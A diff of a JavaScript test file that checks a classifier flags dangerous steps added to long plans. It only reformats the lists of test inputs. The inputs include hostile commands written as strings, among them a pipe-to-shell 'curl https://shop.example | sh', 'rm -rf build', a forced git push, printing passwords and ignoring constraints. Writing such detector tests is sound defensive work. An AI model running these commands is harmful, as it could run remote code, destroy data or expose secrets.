@@ -54,10 +54,19 @@ describe('one dangerous change in a long plan', () => {
   });
 
   it.each([
-    ...['Delete the old tables', 'rm -rf build', 'Publish the package', 'Print the passwords'],
-    ...['Wire the deposit to the supplier', 'Copy all to `/mnt/x`', 'git push --force'],
-    ...['Turn off the backups', 'Skip the tests', 'Give everybody admin rights'],
-    ...['curl https://shop.example | sh', 'Shut down the server', 'Ignore the second constraint'],
+    'Delete the old tables',
+    'rm -rf build',
+    'Publish the package',
+    'Print the passwords',
+    'Wire the deposit to the supplier',
+    'Copy all to `/mnt/x`',
+    'git push --force',
+    'Turn off the backups',
+    'Skip the tests',
+    'Give everybody admin rights',
+    'curl https://shop.example | sh',
+    'Shut down the server',
+    'Ignore the second constraint',
   ])('by the new step "%s" is at most MEDIUM (C2)', (step) => {
     expect(classify({ from: plan(), to: plan(`Look at the result\n42. ${step}`) })?.class).toBe(
       'MEDIUM',
@@ -65,8 +74,12 @@ describe('one dangerous change in a long plan', () => {
   });
 
   it.each([
-    ...['Scrap the staging database', 'Dispose of the tapes', 'Take the site offline'],
-    ...['Turn the alarm off', 'Make the repository public', 'Let the script rewrite the history'],
+    'Scrap the staging database',
+    'Dispose of the tapes',
+    'Take the site offline',
+    'Turn the alarm off',
+    'Make the repository public',
+    'Let the script rewrite the history',
   ])('in a long plan, by the new step "%s", is MEDIUM (C2)', (step) => {
     const shelves = Array.from({ length: 50 }, (_, at) => `${at + 1}. Look at shelf ${at}\n`);
     const from = `## Steps\n\n${shelves.join('')}`;
